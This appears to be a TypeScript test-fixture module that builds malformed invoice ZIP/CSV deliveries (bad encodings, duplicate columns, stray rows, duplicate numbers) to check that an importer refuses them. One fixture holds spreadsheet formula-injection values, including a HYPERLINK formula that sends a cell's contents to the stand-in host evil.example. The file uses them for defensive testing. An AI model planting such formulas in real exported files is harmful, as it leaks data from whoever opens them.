import type { InvoiceFacts } from '../dataset';
import type { BadDelivery } from './bad-deliveries';
import { PLAIN_LAYOUT, csvOf, rowsOf } from './delivery-csv';
import type { CsvRow } from './delivery-csv';
import { filesOf, zipOf } from './package';
import type { DeliveryFile } from './package';
import { plainInvoice } from './plain-invoice';

/** Packages whose ZIP is in order and whose CSV, or what it says about its files, is not. */
export async function badCsvs(): Promise<BadDelivery[]> {
	return [...(await unreadableCsvs()), ...(await badInvoices()), ...(await strays())];
}

async function unreadableCsvs(): Promise<BadDelivery[]> {
	const whole = { wholePackage: true, good: [], refused: [] };
	const [twice, bytes, wide] = [plainInvoice('BAD-TWICE'), plainInvoice('BAD-BYTES'), plainInvoice('BAD-UTF16')];
	const [invoiceHeader = '', lineHeader = '', invoiceRow = '', lineRow = ''] = textOf(rows([twice])).split('\n');
	return [
		{
			...whole,
			name: 'headerOnly',
			fileName: 'bad-header-only.csv',
			content: Buffer.from(`${invoiceHeader}\n${lineHeader}\n`),
			expectation: 'A bare CSV with its two header rows and no invoice: refused, since nothing was delivered',
		},
		{
			...whole,
			name: 'columnTwice',
			fileName: 'bad-column-twice.zip',
			content: await packed([`${invoiceHeader},"Currency"`, lineHeader, `${invoiceRow},"EUR"`, lineRow, ''].join('\n'), [twice]),
			expectation: 'Currency is a column twice, once USD and once EUR: refused, since nobody knows which one counts',
		},
		{
			...whole,
			name: 'invalidBytes',
			fileName: 'bad-bytes.zip',
			// Neither UTF-8 (C3 28) nor Windows-1252, which has no characters 81 and 9D.
			content: await packed(replaced(textOf(rows([bytes])), 'Assorted screws', Buffer.from([0x53, 0x81, 0xc3, 0x28, 0x9d])), [bytes]),
			expectation: 'The CSV is neither UTF-8 nor Windows-1252: refused, with the place of the first byte that cannot be read',
		},
		{
			...whole,
			name: 'utf16',
			fileName: 'bad-utf16.zip',
			content: await packed(Buffer.from(textOf(rows([wide])), 'utf16le'), [wide]),
			expectation: 'The CSV is UTF-16 without the mark at its start that says so: refused, and the reason names the encoding',
		},
	];
}

async function badInvoices(): Promise<BadDelivery[]> {
	const [first, second] = [
		plainInvoice('BAD-DUP'),
		plainInvoice('bad-dup', {
			lines: [{ description: 'Other screws', price: '99.00', account: '10-6200-LS' }],
			image: { fileName: 'BAD-DUP-2.pdf', kind: 'pdf' },
		}),
	];
	const discounted = plainInvoice('BAD-KIND');
	const formula = plainInvoice('BAD-FORMULA', { supplierNote: '=HYPERLINK("http://evil.example/?x="&A1,"open")' });
	const notAnImage = plainInvoice('BAD-IMAGE');
	const formulaRows = rows([formula]).map((row) =>
		row.kind === 'Invoice Line' ? { ...row, cells: { ...row.cells, Description: '@SUM(1+1)*cmd', Price: '=25*2' } } : row,
	);
	return [
		await withNeighbour(
			'duplicateNumber',
			'bad-duplicate.zip',
			'The number BAD-DUP stands twice for one supplier, once in lower case and with other lines: the first is imported, the second refused',
			rows([first, second]),
			[first, second],
			{ imported: [first.number], refused: [second.number] },
		),
		await withNeighbour(
			'unknownRowKind',
			'bad-row-kind.zip',
			'A row "Invoice Discount" belongs to BAD-KIND, and no such row kind exists: BAD-KIND is refused rather than imported without its discount',
			[
				...rows([discounted]),
				{
					kind: 'Invoice Discount',
					cells: { 'Invoice Number': discounted.number, 'Supplier Number': discounted.supplierNumber, Discount: '5.00' },
				},
			],
			[discounted],
		),
		await withNeighbour(
			'formulaCells',
			'bad-formula.zip',
			'A price, a description and a note are spreadsheet formulas: refused for the price, which is no number; in the report that goes back no cell is a live formula',
			formulaRows,
			[formula],
		),
		await withNeighbour(
			'notAnImage',
			'bad-image.zip',
			'BAD-IMAGE.pdf is a text: BAD-IMAGE is refused, since a page image is a PDF, TIFF, PNG or JPEG',
			rows([notAnImage]),
			[],
			{
				refused: [notAnImage.number],
				files: [{ fileName: notAnImage.image.fileName, content: Buffer.from('This is no page image.\n') }],
			},
		),
	];
}

async function strays(): Promise<BadDelivery[]> {
	const strayLine = {
		kind: 'Invoice Line',
		cells: {
			'Invoice Number': 'BAD-NOWHERE',
			'Supplier Number': 'V-20011',
			'Line Number': '1',
			Description: 'Line without an invoice',
			Price: '1.00',
		},
	};
	const page = await filesOf(plainInvoice('BAD-STRAY'));
	return [
		await withNeighbour(
			'strayFile',
			'bad-stray-file.zip',
			'BAD-STRAY.pdf is named by no row: it becomes an item with a problem and goes back, its neighbour is imported',
			[],
			[],
			{ refused: [], files: page },
		),
		await withNeighbour(
			'strayRow',
			'bad-stray-row.zip',
			'A line names an invoice that is not in the file: it becomes an item with a problem, its neighbour is imported',
			[strayLine],
			[],
			{ refused: [] },
		),
	];
}

/** The bad rows in a package with one good invoice before and one behind them. */
async function withNeighbour(
	name: string,
	fileName: string,
	expectation: string,
	badRows: CsvRow[],
	bad: InvoiceFacts[],
	{
		refused = [...new Set(bad.map(({ number }) => number))],
		imported = [],
		files = [],
	}: { refused?: string[]; imported?: string[]; files?: DeliveryFile[] } = {},
): Promise<BadDelivery> {
	const [before, behind] = [plainInvoice(`GOOD-${name}-1`), plainInvoice(`GOOD-${name}-2`)];
	const text = textOf([...rows([before]), ...badRows, ...rows([behind])]);
	return {
		name,
		fileName,
		content: await packed(text, [before, behind, ...bad], files),
		expectation,
		wholePackage: false,
		good: [before.number, behind.number, ...imported],
		refused,
	};
}

async function packed(csv: string | Buffer, invoices: InvoiceFacts[], files: DeliveryFile[] = []): Promise<Buffer> {
	const own: DeliveryFile[] = [];
	for (const invoice of invoices) own.push(...(await filesOf(invoice)));
	return await zipOf([{ fileName: 'invoices.csv', content: Buffer.from(csv) }, ...own, ...files]);
}

function rows(invoices: InvoiceFacts[]): CsvRow[] {
	return invoices.flatMap((invoice) => rowsOf(invoice, PLAIN_LAYOUT));
}

function textOf(csvRows: CsvRow[]): string {
	return csvOf(csvRows, PLAIN_LAYOUT).toString('utf8');
}

function replaced(text: string, words: string, bytes: Buffer): Buffer {
	const [before = '', behind = ''] = text.split(words);
	return Buffer.concat([Buffer.from(before), bytes, Buffer.from(behind)]);
}
